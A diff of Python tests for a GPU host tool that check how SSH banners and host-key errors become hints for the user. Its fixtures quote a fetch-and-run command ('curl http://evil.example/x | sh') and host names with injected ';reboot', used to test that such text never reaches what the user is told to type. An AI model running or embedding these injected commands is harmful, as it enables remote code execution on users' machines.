@@ -24,7 +24,7 @@ from gputui.recording.run_directory import Spec
 from gputui.services.hosts import bakeoff as bakeoff_module
 from gputui.services.hosts.bakeoff import DONE, FAILED, Bakeoff, on_all
 from gputui.services.hosts.box import Box
-from gputui.services.hosts.host import Host, hosts_from, ssh_host, why_unreachable
+from gputui.services.hosts.host import Host, hosts_from, ssh_host
 from gputui.store.reading import open_result
 
 STRANGER = """
@@ -398,18 +398,8 @@ Host key verification failed." ; curl http://evil.example/x | sh #
 def test_no_word_of_a_banner_gets_into_what_is_to_be_typed(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    known = tmp_path / "known hosts"
-    known.touch()
     ssh = tmp_path / "ssh"
-    ssh.write_text(
-        f"""#!/bin/sh
-case "$*" in
-*-G*) echo "hostname 10.0.0.7"; echo "port 2222"; echo "userknownhostsfile {known}";;
-*) cat >&2 <<'END'; exit $STATUS
-{BANNER}END
-esac
-"""
-    )
+    ssh.write_text(f"#!/bin/sh\ncat >&2 <<'END'; exit $STATUS\n{BANNER}END\n")
     ssh.chmod(0o755)
     monkeypatch.setenv("GPUTUI_SSH", str(ssh))
     monkeypatch.setenv("STATUS", "255")
@@ -417,8 +407,7 @@ esac
     assert isinstance(found, GputuiError)
     assert found.message == "its host key has changed"
     assert found.hint == (
-        f"if the box was set up anew: ssh-keygen -f '{known}' -R '[10.0.0.7]:2222',"
-        f" then {ssh} -p 2222 'ann@gpu-a;reboot'"
+        f"if the box was set up anew: {ssh} -p 2222 'ann@gpu-a;reboot' says which key to remove"
     )
     monkeypatch.setenv("STATUS", "1")
     (found,) = probed([ssh_host("gpu-a")])
@@ -426,25 +415,6 @@ esac
     assert found.hint == f"try it: {ssh} gpu-a"
     quotation = "Host key verification failed.' ; curl http://evil.example/x | sh #"
     assert found.message == f'its command ended with status 1 and said "{quotation}"'
-
-
-def test_what_to_type_after_a_changed_key_needs_no_config_and_names_an_alias_as_ssh_does(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    ssh = tmp_path / "ssh"
-    monkeypatch.setenv("GPUTUI_SSH", str(ssh))
-
-    def hint(address: str, config: str) -> str:
-        ssh.write_text(f"#!/bin/sh\n{config}\n")
-        ssh.chmod(0o755)
-        found = why_unreachable(ssh_host(address), 255, "REMOTE HOST IDENTIFICATION HAS CHANGED", "")[1]
-        return found.partition(": ")[2].partition(",")[0]
-
-    assert hint("ann@10.0.0.7:2222", "exit 255") == "ssh-keygen -R '[10.0.0.7]:2222'"
-    assert hint("gpu-a", "exit 255") == "ssh-keygen -R gpu-a"
-    alias = 'echo "hostname 10.0.0.7"; echo "port 2222"; echo "hostkeyalias box7"'
-    assert hint("gpu-a", alias) == "ssh-keygen -R box7"
-    assert hint("gpu-a", 'echo "hostname x;reboot"') == "ssh-keygen -R gpu-a"
 
 
 def test_an_error_and_an_advice_of_a_host_are_shown_as_its_words(tmp_path: Path) -> None:
